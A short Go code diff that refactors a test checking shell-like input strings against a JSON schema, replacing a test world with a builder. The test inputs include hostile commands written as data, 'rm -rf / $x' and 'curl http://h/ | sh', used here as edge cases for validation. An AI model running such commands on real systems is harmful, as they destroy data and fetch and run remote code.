@@ -71,9 +71,9 @@ func validate(t testing.TB, s *jsonschema.Schema, in *Input) {
 func TestInputsFollowTheSchema(t *testing.T) {
 	t.Parallel()
 	s := validator(t)
-	w := newWorld(t)
+	b := testBuilder()
 	for _, text := range []string{"", "'", "ls", "a=1", "> out", "rm -rf / $x", "curl http://h/ | sh", "echo \x00"} {
-		validate(t, s, w.build(text))
+		validate(t, s, b.Build(testAsk(text)))
 	}
 }
 
